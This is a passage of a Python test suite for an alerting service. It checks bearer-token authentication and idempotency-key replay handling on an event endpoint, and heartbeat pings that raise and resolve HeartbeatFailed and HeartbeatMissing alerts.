    wrong = {**JSON, "Authorization": f"Bearer {WRONG}", "Idempotency-Key": key}
    (await send("POST", served.url(EV_PATH), data=body, headers=wrong)).problem(403)
    right = {**EV_AUTH, "Idempotency-Key": key}
    reply = await send("POST", served.url(EV_PATH), data=body, headers=right)
    assert reply.status == 202, reply.text


async def test_replay_check_comes_after_authentication(served: Served) -> None:
    key = f"secret-run-{uuid.uuid4()}"
    body = encode(trigger(f"run-{uuid.uuid4()}", severity="info"))
    used = await send(
        "POST", served.url(EV_PATH), data=body, headers={**EV_AUTH, "Idempotency-Key": key}
    )
    assert used.status == 202, used.text
    probe = await send(
        "POST", served.url(EV_PATH), data=body, headers={**JSON, "Idempotency-Key": key}
    )
    probe.problem(401)


async def test_concurrent_requests_with_one_idempotency_key_act_once(served: Served) -> None:
    key = f"burst-{uuid.uuid4()}"
    headers = {**EV_AUTH, "Idempotency-Key": key}
    bodies = [encode(trigger(f"{key}-{n}", severity="info")) for n in range(8)]
    replies = await asyncio.gather(
        *(send("POST", served.url(EV_PATH), data=body, headers=headers) for body in bodies)
    )
    statuses = sorted(reply.status for reply in replies)
    assert statuses == [202] + [409] * 7, statuses
    written = [
        a
        for a, _ in served.store.alerts.browse([])
        if a.labels.get("dedup_key", "").startswith(key)
    ]
    assert len(written) == 1


# -- heartbeats ------------------------------------------------------------------------------


def heartbeat_alerts(store: Store, name: str) -> list[Any]:
    return [a for a, _ in store.alerts.browse([]) if a.labels.get("heartbeat") == name]


async def test_ping_fail_raises_heartbeat_failed_and_success_resolves_it(served: Served) -> None:
    assert heartbeat_alerts(served.store, "db-dump") == []
    reply = await send("POST", served.url(f"/ping/{DUMP_ID}/fail"), data=b"pg_dump: error")
    assert reply.status == 200 and reply.text == "OK\n", reply.text
    [alert] = heartbeat_alerts(served.store, "db-dump")
    assert alert.labels["alertname"] == "HeartbeatFailed" and alert.state is AlertState.FIRING
    assert alert.labels["severity"] == "P2" and alert.labels["service"] == "backups"
    state, _ = served.store.heartbeats.load()["db-dump"]
    assert state.last_outcome == "fail"

    # The next run succeeds (exit status 0, upper-case UUID as some scripts write it).
    reply = await send("GET", served.url(f"/ping/{DUMP_ID.upper()}/0"))
    assert reply.status == 200, reply.text
    [alert] = heartbeat_alerts(served.store, "db-dump")
    assert alert.state is AlertState.RESOLVED and alert.resolved_at is not None
    state, _ = served.store.heartbeats.load()["db-dump"]
    assert state.last_outcome == "success" and state.last_exit_code == 0


async def test_heartbeat_that_never_pings_fires_heartbeat_missing(tmp_path: Path) -> None:
    """period must be at least 1m, so monitoring is made to have begun 70 s ago (as after
    a restart): 1m period + 1s grace are over, and the first judgement finds it down."""
    beat_id = "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d"
    path = tmp_path / "opsbook.yaml"
    port, public = reserve_port()
    path.write_text(
        f"""
project: {{name: shop}}
heartbeats:
  - {{name: nightly-vacuum, id: {beat_id}, period: 1m, grace: 1s, severity: P2,
      description: "VACUUM ANALYZE"}}
incidents: {{public_url: "{public}"}}
"""
    )
    with Store.open(f"sqlite:///{path.with_suffix('.db')}") as seed:
        seed.heartbeats.watch(["nightly-vacuum"], datetime.now(UTC) - timedelta(seconds=70))
    async with serving(path, port) as server:
        await eventually(lambda: bool(heartbeat_alerts(server.store, "nightly-vacuum")), 5)
        [alert] = heartbeat_alerts(server.store, "nightly-vacuum")
        assert alert.labels["alertname"] == "HeartbeatMissing"
        assert alert.state is AlertState.FIRING
        assert "never pinged" in alert.annotations["summary"]
        assert "VACUUM ANALYZE" in alert.annotations["description"]

        reply = await send("HEAD", server.url(f"/ping/{beat_id}"))
        assert reply.status == 200
        [alert] = heartbeat_alerts(server.store, "nightly-vacuum")
        assert alert.state is AlertState.RESOLVED
